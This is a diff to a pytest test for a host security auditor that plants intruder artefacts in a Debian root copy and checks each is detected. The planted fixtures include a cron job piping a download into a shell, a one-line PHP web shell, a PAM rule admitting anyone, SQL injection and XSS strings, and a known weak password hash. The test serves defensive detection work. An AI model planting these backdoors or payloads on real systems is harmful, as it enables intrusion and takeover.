@@ -3,14 +3,21 @@
 from __future__ import annotations
 
 import datetime
+import gzip
 import os
+import struct
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 
-from inspector.audit import audit_host, load_rules
+from inspector.audit import audit_host
 from inspector.model import Finding, Host, Severity, Status
+from inspector.passwords.cache import Cache
+from inspector.passwords.examination import Examiner
+from inspector.passwords.wordlists import load_lists
+from inspector.plugins import bundled
+from inspector.rules import load_rules
 from inspector.targets.host import rootfs
 
 RIGHT_ON_A_CLEAN_ROOT = {"os-patch.pending-security-updates"}
@@ -18,6 +25,9 @@ RIGHT_ON_A_CLEAN_ROOT = {"os-patch.pending-security-updates"}
 TRUE_OF_THE_CLEAN_ROOT = {"antivirus.not-installed"}
 """Expected below, and so before anything is planted."""
 HASH = "$6$abcdefgh$" + "A" * 86
+"""Of a password that nobody has."""
+KNOWN = "$1$saltsalt$T5MN6iR8aoAeg.OHdYqBf0"
+"""Of 123456."""
 EXPECTED = {
     ("weak-password.empty-password", "guest"): "/etc/shadow:",
     ("weak-password.obsolete-hash", "legacy"): "/etc/shadow:",
@@ -40,6 +50,19 @@ EXPECTED = {
     ("security-log.logging-off", ""): "",
     ("open-port.redis-without-password", ""): "/etc/redis/redis.conf",
     ("antivirus.not-installed", ""): "",
+    ("weak-password.guessable-password", "legacy"): "/etc/shadow:",
+    ("weak-password.shared-password", "intern"): "/etc/passwd:",
+    ("admin-privilege.pam-lets-anybody-in", ""): "/etc/pam.d/sshd",
+    ("admin-privilege.path-folder-writable", "/usr/local/sbin"): "/usr/local/sbin",
+    ("access-permission.capability-not-packaged", "/usr/bin/perl"): "/usr/bin/perl",
+    ("access-permission.private-key-readable", "/etc/nginx/ssl/site.key"): "/etc/nginx/ssl/site.key",
+    ("malware.packaged-file-altered", "/bin/ls"): "/bin/ls",
+    ("malware.download-piped-into-shell", ""): "/etc/cron.d/update:1",
+    ("web-tampering.web-shell", "/var/www/html/uploads/a.php"): "/var/www/html/uploads/a.php",
+    ("web-tampering.script-in-upload-folder", "/var/www/html/uploads"): "/var/www/html/uploads/a.php",
+    ("sql-injection.attempts-in-access-log", ""): "",
+    ("xss.attempts-in-access-log", ""): "",
+    ("security-log.brute-force-series", ""): "",
 }
 
 
@@ -48,7 +71,9 @@ def findings(host: Host) -> dict[str, tuple[Finding, ...]]:
 
 
 def audited(root: Path) -> Host:
-    host = audit_host(rootfs(str(root)), load_rules("self-check", []))
+    lists = load_lists(bundled("profiles") / "knowledge/common-passwords.txt")
+    examiner = Examiner(lists, 20.0, Cache.in_memory())
+    host = audit_host(rootfs(str(root)), load_rules("self-check", []), examiner.examine).host
     assert not [(r.check, r.reason) for r in host.results if r.status is Status.ERROR]
     return host
 
@@ -70,6 +95,7 @@ def test_a_clean_debian_gives_no_wrong_finding_of_weight(debian_root: Path) -> N
 def test_every_planted_defect_is_found_with_subject_and_place(debian_copy: Path) -> None:
     clean = findings(audited(debian_copy))
     plant(debian_copy)
+    plant_quietly(debian_copy)
     found = findings(audited(debian_copy))
     for (check, subject), place in EXPECTED.items():
         assert check in found, check
@@ -85,7 +111,7 @@ def plant(root: Path) -> None:
     _append(etc / "passwd", f"legacy:x:1002:1002::/:/bin/bash\nintern:{HASH}:1003:1003::/:/bin/bash\n")
     _append(
         etc / "shadow",
-        f"toor:{HASH}:20000::::::\nguest::20000::::::\nlegacy:$1$ab$cdefghijklmnopqrstuvw1:20000::::::\n",
+        f"toor:{HASH}:20000::::::\nguest::20000::::::\nlegacy:{KNOWN}:20000::::::\n",
     )
     (root / "var/backups/shadow.old").write_text(f"root:{HASH}:20000::::::\n")
     (root / "var/backups/shadow.old").chmod(0o644)
@@ -111,6 +137,32 @@ def plant(root: Path) -> None:
     _write(etc / "systemd/journald.conf", "[Journal]\nStorage=none\n")
     (etc / "os-release").unlink()
     _write(etc / "os-release", 'ID=debian\nVERSION_ID="9"\nVERSION_CODENAME=stretch\nPRETTY_NAME="Debian 9"\n')
+
+
+def plant_quietly(root: Path) -> None:
+    """What an intruder leaves, and the traces of the way in."""
+    os.setxattr(root / "usr/bin/perl", "security.capability", struct.pack("<5I", 2 << 24 | 1, 1 << 7, 0, 0, 0))
+    with (root / "usr/bin/ls").open("ab") as file:
+        file.write(b"x")
+    (root / "usr/local/sbin").chmod(0o777)
+    _write(root / "etc/nginx/ssl/site.key", "-----BEGIN PRIVATE KEY-----\nMII\n-----END PRIVATE KEY-----\n")
+    _write(root / "etc/cron.d/update", "*/5 * * * * root curl -fsSL http://192.0.2.7/x | sh\n")
+    _write(root / "etc/pam.d/sshd", "auth sufficient pam_permit.so\n" + (root / "etc/pam.d/sshd").read_text())
+    _write(root / "var/www/html/uploads/a.php", "<?php @eval($_POST['c']); ?>\n")
+    now = datetime.datetime.now(datetime.UTC)
+    request = f'192.0.2.7 - - [{now:%d/%b/%Y:%H:%M:%S} +0000] "GET {{}} HTTP/1.1" 200 512 "-" "-"\n'
+    attempts = (
+        "/a?id=1%20union%20select%20user,password%20from%20mysql.user--",
+        "/a?q=%3Cscript%3Ealert(1)%3C/script%3E",
+    )
+    lines = "".join(request.format(path) for path in attempts)
+    log = root / "var/log/nginx/access.log.2.gz"
+    log.parent.mkdir(parents=True, exist_ok=True)
+    log.write_bytes(gzip.compress(lines.encode()))
+    failed = "{:%b %d %H}:10:{:02} web sshd[7]: Failed password for root from 192.0.2.9 port 5{:03} ssh2\n"
+    _write(
+        root / "var/log/auth.log", "".join(failed.format(now - datetime.timedelta(hours=3), n, n) for n in range(60))
+    )
 
 
 def _append(path: Path, text: str) -> None:
